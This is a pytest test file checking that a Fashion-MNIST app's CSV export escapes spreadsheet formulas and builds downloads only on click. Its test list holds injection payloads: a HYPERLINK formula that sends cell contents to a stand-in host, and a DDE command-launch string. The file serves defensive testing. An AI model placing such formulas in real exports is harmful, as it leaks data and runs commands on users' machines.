"""No cell of a CSV download is a formula, and no download is made before it is asked for."""

from __future__ import annotations

import ast
import io
from collections.abc import Iterator

import numpy as np
import pandas as pd
import pytest

from fmnist.csv_export import escape_cell, escape_table, format_csv
from tests.support.sources import walk_modules

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1",
    "\r=1", "\n=1", " =1+1", "＝1", "-", "=", "- a list",
]  # fmt: skip
HARMLESS = [
    "cnn",
    "",
    "a=b",
    "1-2",
    "-5",
    "+0.5",
    "-1.5e-3",
    "–",
    "true \\ predicted",
    "T-shirt/top",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_in_cells_names_of_columns_and_of_rows(text: str) -> None:
    table = pd.DataFrame({"a": [text, None], text: [1, -2]}, index=pd.Index([text, "b"], name=text))
    back = pd.read_csv(io.StringIO(format_csv(table), newline=""), keep_default_na=False)
    shown = "'" + text.replace("\r", "\n")
    assert list(back.columns) == [shown, "a", f"{shown}.1"]
    assert back.iloc[:, 0].tolist() == [shown, "b"]
    assert back["a"].tolist() == [shown, ""]
    assert back.iloc[:, 2].tolist() == [1, -2]


@pytest.mark.parametrize("value", [*HARMLESS, -5, -0.25, None, True, np.float32(-1), np.nan])
def test_other_cells_stay_as_they_are(value: object) -> None:
    assert escape_cell(value) is value


def test_no_cell_starts_a_row_of_its_own() -> None:
    text = format_csv(pd.DataFrame({"note": ["fine\r=1+1", "two\r\nlines"], "n": [1, 2]}))
    assert "\r" not in text
    back = pd.read_csv(io.StringIO(text))
    assert back["note"].tolist() == ["fine\n=1+1", "two\nlines"]


def test_each_item_of_a_list_is_escaped() -> None:
    table = escape_table(pd.DataFrame({"tags": [["=1", "good"], []]}))
    assert table["tags"].tolist() == [["'=1", "good"], []]


def test_numbers_of_every_kind_are_read_back() -> None:
    table = pd.DataFrame({"i": [-3, 4], "f": [-0.1, 1 / 3], "b": [True, False], "c": ["x", "y"]})
    table["c"] = table["c"].astype("category")
    pd.testing.assert_frame_equal(
        pd.read_csv(io.StringIO(format_csv(table))), table.astype({"c": "str"})
    )


def find_calls(name: str) -> Iterator[tuple[str, ast.Call]]:
    """Yield every call of a function or method of this name in the program, and its module."""
    for module, node in walk_modules("app.py", "pages", "fmnist"):
        match node:
            case ast.Call(ast.Attribute(attr=called) | ast.Name(called)) if called == name:
                yield module, node


def test_every_csv_text_is_made_by_the_one_function() -> None:
    assert {module for module, _ in find_calls("to_csv")} == {"fmnist/csv_export.py"}
    # Its columns are numbers; the program reads these files back.
    writers = [*find_calls("writer"), *find_calls("DictWriter")]
    assert {module for module, _ in writers} == {"fmnist/training/reporter.py"}


def test_every_download_is_made_on_the_click() -> None:
    """Its data are a function, a lambda or a partial: called at each rerun, they would be kept."""
    downloads = list(find_calls("download_button"))
    assert len(downloads) >= 6
    for module, call in downloads:
        given = {keyword.arg: keyword.value for keyword in call.keywords}
        data = call.args[1] if len(call.args) > 1 else given["data"]
        is_partial = isinstance(data, ast.Call) and ast.unparse(data.func) == "partial"
        assert is_partial or isinstance(data, ast.Lambda | ast.Name), f"{module}:{call.lineno}"
